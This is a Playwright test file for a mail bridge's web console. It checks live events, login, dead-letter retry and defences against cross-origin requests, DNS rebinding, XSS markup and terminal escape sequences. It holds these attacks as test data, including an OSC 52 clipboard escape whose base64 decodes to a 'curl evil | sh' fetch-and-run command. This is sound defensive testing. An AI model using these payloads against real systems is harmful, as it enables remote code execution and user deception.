"""The console in a real headless Chromium against a real bridge fed by the simulator: the page
loads clean, follows events live, shows a lost WebSocket, redrives a dead letter, asks for the
token, refuses foreign origins and rebinding hosts, and shows strangers' markup as text and their
control characters as escapes.

Run serially (one xdist group): each test starts its own browser and bridge.
"""

from __future__ import annotations

import os
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from conftest import Receiver, wait_until
from playwright.async_api import Browser, Locator, expect

from bridge.printable import printable
from bridge.simulator import Simulator
from bridge.supervisor import Supervisor

from .conftest import (
    REBOUND,
    TOKEN,
    Tab,
    base_url,
    console_config,
    inject,
    open_tab,
    subscribed_bridge,
)

pytestmark = pytest.mark.xdist_group("browser")

SCREENSHOT_ENV = "OPENMAIL_BRIDGE_CONSOLE_SCREENSHOT"
"""Set to a path to also write the screenshot there (how docs/console.png is made)."""
MARKUP = '<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 2">'


async def dead(sv: Supervisor, sink: str = "agent") -> int:
    counts = await sv.store.sink_counts()
    return counts[sink].dead if sink in counts else 0


async def has_dead(sv: Supervisor) -> bool:
    return await dead(sv) > 0


async def test_the_page_loads_clean_and_follows_events_live(
    bridge: Supervisor, sim: Simulator, receiver: Receiver, browser: Browser, tmp_path: Path
) -> None:
    tab = await open_tab(browser, base_url(bridge) + "/")
    page = tab.page
    await expect(page.locator("#readiness-state")).to_have_text("ready")
    await expect(page.locator("#ws-state")).to_have_text("subscribed")
    await wait_until(lambda: bridge.activity.subscribers == 1)  # the page follows the stream

    (event_id,) = await inject(sim)
    await expect(page.locator(f'tr.event[data-event-id="{event_id}"]')).to_be_visible(timeout=2000)
    row = page.locator(f'tr.event[data-event-id="{event_id}"]')
    await expect(row).to_contain_text("websocket")
    await expect(row).to_contain_text("everything")  # the route it matched
    await expect(row.locator(".outcome-delivered")).to_have_count(2)

    # A small, realistic scene for the screenshot: more mail, one receiver refusal.
    receiver.statuses = [400]
    refused = (await inject(sim))[0]
    await inject(sim, count=3)
    await expect(page.locator(f'#dead-body tr[data-event-id="{refused}"]')).to_be_visible()
    await page.locator(f'tr.event[data-event-id="{refused}"]').click()
    await expect(page.locator(".detail")).to_contain_text("HTTP 400")
    await expect(page.locator("#sinks-body")).to_contain_text("agent")
    await expect(page.locator("#chart polyline")).to_have_count(3)

    shot = tmp_path / "console.png"
    await page.screenshot(path=shot, full_page=True)
    assert shot.read_bytes().startswith(b"\x89PNG")
    if target := os.environ.get(SCREENSHOT_ENV):
        await page.screenshot(path=target, full_page=True)
    assert tab.errors == []


async def test_a_lost_websocket_shows_as_reconnecting_and_degraded(
    bridge: Supervisor, sim: Simulator, browser: Browser
) -> None:
    tab = await open_tab(browser, base_url(bridge) + "/")
    await expect(tab.page.locator("#ws-state")).to_have_text("subscribed")
    await sim.stop()
    await expect(tab.page.locator("#ws-state")).to_have_text("reconnecting")
    await expect(tab.page.locator("#readiness-state")).to_have_text("degraded")
    await expect(tab.page.locator("#readiness-reason")).to_contain_text("websocket")
    assert tab.errors == []


async def test_the_page_says_when_the_bridge_is_gone(bridge: Supervisor, browser: Browser) -> None:
    tab = await open_tab(browser, base_url(bridge) + "/")
    banner = tab.page.locator("#connection")
    await expect(tab.page.locator("#ws-state")).to_have_text("subscribed")
    await expect(banner).to_be_hidden()
    await bridge.stop()
    await expect(banner).to_be_visible()
    await expect(banner).to_contain_text("Connection to the bridge lost")


async def test_a_refused_event_is_dead_lettered_and_the_retry_button_redrives_it(
    bridge: Supervisor, sim: Simulator, receiver: Receiver, browser: Browser
) -> None:
    tab = await open_tab(browser, base_url(bridge) + "/")
    receiver.statuses = [400]
    (event_id,) = await inject(sim)
    row = tab.page.locator(f'#dead-body tr[data-event-id="{event_id}"]')
    await expect(row).to_be_visible()
    await expect(row).to_contain_text("HTTP 400")
    assert receiver.accepted_ids() == []

    # The receiver answers 200 from now on (its list of statuses is used up).
    await row.locator("button.retry").click()
    await wait_until(lambda: event_id in receiver.accepted_ids())
    await expect(tab.page.locator("#dead-status")).to_have_text("1 redriven to agent")
    await expect(row).to_have_count(0)
    assert await dead(bridge) == 0
    assert tab.errors == []


async def test_with_a_token_the_page_asks_for_it_and_its_actions_fail_without_it(
    tmp_path: Path, sim: Simulator, receiver: Receiver, browser: Browser
) -> None:
    config = console_config(tmp_path, sim, receiver, token=TOKEN)
    async with subscribed_bridge(config) as sv:
        base = base_url(sv)
        receiver.statuses = [400]
        (event_id,) = await inject(sim)
        await wait_until(lambda: has_dead(sv), timeout=10)

        tab = await open_tab(browser, base + "/")
        page = tab.page
        await expect(page.locator("form#login")).to_be_visible()
        assert await page.evaluate("fetch('/api/overview').then(r => r.status)") == 401
        await page.locator("#token").fill("not-the-token")
        await page.locator("#login button").click()
        await expect(page.locator("#login-error")).to_have_text("Wrong token.")

        await page.locator("#token").fill(TOKEN)
        await page.locator("#login button").click()
        row = page.locator(f'#dead-body tr[data-event-id="{event_id}"]')
        await expect(row).to_be_visible()
        (cookie,) = await tab.context.cookies()
        assert cookie["httpOnly"] is True
        assert cookie["sameSite"] == "Strict"
        assert cookie["path"] == "/"
        assert TOKEN not in cookie["value"]
        assert not any(TOKEN in url for url in tab.urls)

        # The session is gone (cookies cleared): the button's request fails, nothing changes.
        await tab.context.clear_cookies()
        await row.locator("button.retry").click()
        await expect(page.locator("#dead-status")).to_contain_text("HTTP 401")
        await expect(page.locator("#connection")).to_contain_text("Not logged in")
        assert await dead(sv) == 1
        assert receiver.accepted_ids() == []


async def test_a_foreign_origin_and_a_rebinding_host_are_refused(
    bridge: Supervisor, sim: Simulator, receiver: Receiver, browser: Browser
) -> None:
    receiver.statuses = [400]
    await inject(sim)
    await wait_until(lambda: has_dead(bridge), timeout=10)
    port = bridge.admin.port if bridge.admin else None

    # Another site (the simulator's origin) posts to the console the way a form could.
    tab = await open_tab(browser, f"{sim.base_url}/_sim/state")
    async with tab.page.expect_response(lambda r: r.url.endswith("/api/dead/purge")) as answer:
        await tab.page.evaluate(
            """url => fetch(url, {method: "POST", mode: "no-cors", body: '{"sink": "agent"}',
                                   headers: {"Content-Type": "text/plain"}})""",
            f"{base_url(bridge)}/api/dead/purge",
        )
    assert (await answer.value).status == 403
    assert await dead(bridge) == 1

    # A name the attacker controls, resolving to 127.0.0.1: the page and the API refuse it,
    # the probes still answer.
    page = tab.page
    refused = await page.goto(f"http://{REBOUND}:{port}/")
    assert refused is not None
    assert refused.status == 403
    api = await page.goto(f"http://{REBOUND}:{port}/api/overview")
    assert api is not None
    assert api.status == 403
    probe = await page.goto(f"http://{REBOUND}:{port}/healthz")
    assert probe is not None
    assert probe.status == 200


async def rendered_then_redrawn(
    bridge: Supervisor, sim: Simulator, browser: Browser, message: dict[str, str]
) -> AsyncIterator[tuple[Tab, Locator]]:
    """The console showing one event of ``message``: its tab and the event's row as the server
    rendered it, then again as the script redraws it once the stream brings another event."""
    payload = {"event": "message.received", "inbox_id": "inb_demo_support", "message": message}
    (event_id,) = await inject(sim, payload=payload)
    await wait_until(lambda: bridge.dispatcher.workers["audit"].state.delivered == 1)
    tab = await open_tab(browser, base_url(bridge) + "/")
    row = tab.page.locator(f'tr.event[data-event-id="{event_id}"]')
    for rows in (1, 2):
        if rows == 2:
            await inject(sim)
        await expect(tab.page.locator("tr.event")).to_have_count(rows)
        yield tab, row


async def test_markup_in_a_subject_shows_as_text(
    bridge: Supervisor, sim: Simulator, browser: Browser
) -> None:
    message = {"from": f"Mallory {MARKUP} <m@example.org>", "subject": MARKUP}
    async for tab, row in rendered_then_redrawn(bridge, sim, browser, message):
        page = tab.page
        await expect(row).to_contain_text(MARKUP)
        await expect(page.locator("#events-body script, #events-body img")).to_have_count(0)
        await row.click()
        await expect(page.locator(".detail")).to_contain_text(MARKUP)
        await row.click()
        await expect(page.locator(".detail")).to_have_count(0)
    assert await page.evaluate("window.pwned") is None
    assert tab.errors == []


async def test_control_and_bidi_characters_show_as_escapes(
    bridge: Supervisor, sim: Simulator, browser: Browser
) -> None:
    # An OSC 52 clipboard write, a NUL, a file name written backwards, the four isolates.
    subject = "Invoice \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 due\x00 \u202efdp.exe"
    subject += "\u2066a\u2067b\u2068c\u2069"
    sender = "Eve \u202e<gro.elpmaxe@eve>"
    message = {"from": sender, "subject": subject}
    async for tab, row in rendered_then_redrawn(bridge, sim, browser, message):
        page = tab.page
        await row.click()
        await expect(page.locator(".detail")).to_contain_text(printable(subject))
        events = await page.locator("#events-body").text_content()
        assert events is not None
        assert events.count(printable(subject)) == 2  # the row and its detail
        assert events.count(printable(sender)) == 2
        assert [c for c in "\x1b\x07\x00\u202e\u2066\u2067\u2068\u2069" if c in events] == []
        await row.click()
        await expect(page.locator(".detail")).to_have_count(0)

    # The script's rule is the CLI's (str.isprintable) for every assigned character; those
    # assigned after Python's Unicode version may differ, surrogates cannot be sent as text.
    chars = [chr(i) for i in range(0x110000) if unicodedata.category(chr(i)) not in ("Cn", "Cs")]
    script = "async (text) => Array.from(text, (await import('/static/panels.js')).shown)"
    shown = await page.evaluate(script, "".join(chars))
    assert len(shown) == len(chars)
    assert [(c, s) for c, s in zip(chars, shown, strict=True) if s != printable(c)] == []
    assert tab.errors == []
